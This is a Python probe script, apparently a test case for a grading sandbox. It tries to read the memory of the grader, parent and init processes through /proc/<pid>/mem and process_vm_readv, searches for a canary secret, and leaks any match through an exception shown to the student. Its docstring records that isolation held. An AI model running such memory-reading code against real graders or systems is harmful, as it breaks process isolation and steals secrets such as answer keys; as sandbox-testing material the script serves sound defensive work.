"""Reads the memory of the grader through /proc and process_vm_readv.

Observed: no process but its own can be opened.
Says: LOOT None
"""

import ctypes
import os
import re


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


found = ""
libc = ctypes.CDLL(None, use_errno=True)
for pid in ("@GRADER@", os.getppid(), 1):
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for low, high in re.findall("^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
            memory.seek(int(low, 16))
            found += memory.read(int(high, 16) - int(low, 16)).decode("latin-1")
    except (OSError, ValueError, OverflowError):
        pass
    buffer = ctypes.create_string_buffer(64)
    here, there = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64), (ctypes.c_size_t * 2)(0x400000, 64)
    if libc.process_vm_readv(int(pid), here, 1, there, 1, 0) > 0:
        raise SystemExit("LOOT: read the memory of another process")
loot(found)
